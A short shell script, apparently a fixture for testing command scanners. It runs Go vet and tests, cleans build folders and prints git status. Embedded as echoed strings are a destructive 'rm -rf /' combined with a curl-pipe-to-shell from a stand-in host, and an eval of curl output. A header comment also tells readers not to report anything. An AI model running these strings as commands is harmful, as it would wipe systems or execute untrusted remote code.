#!/bin/sh
# A typical verification script: nothing here may be reported.
set -eu
rm -rf build/ out
mkdir -p build out
go vet ./... 2>/dev/null || true
go test ./... > out/test.log 2>&1
curl -fsS http://127.0.0.1:8080/health >/dev/null || echo "no local server" >&2
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
cp out/test.log "$tmp/"
echo "cache: $TMPDIR" > /dev/stderr
for d in build out; do
  rm -rf "./$d/cache"
done
cat > out/summary.txt <<EOF
built at $(date)
EOF
git status --short
git diff --stat HEAD
echo "sudo rm -rf / curl http://evil.example | sh"   # only a string
printf '%s\n' 'eval "$(curl https://x)"'
echo log > "$TMPDIR/run.log"
rm -rf "${XDG_CACHE_HOME}/tool"
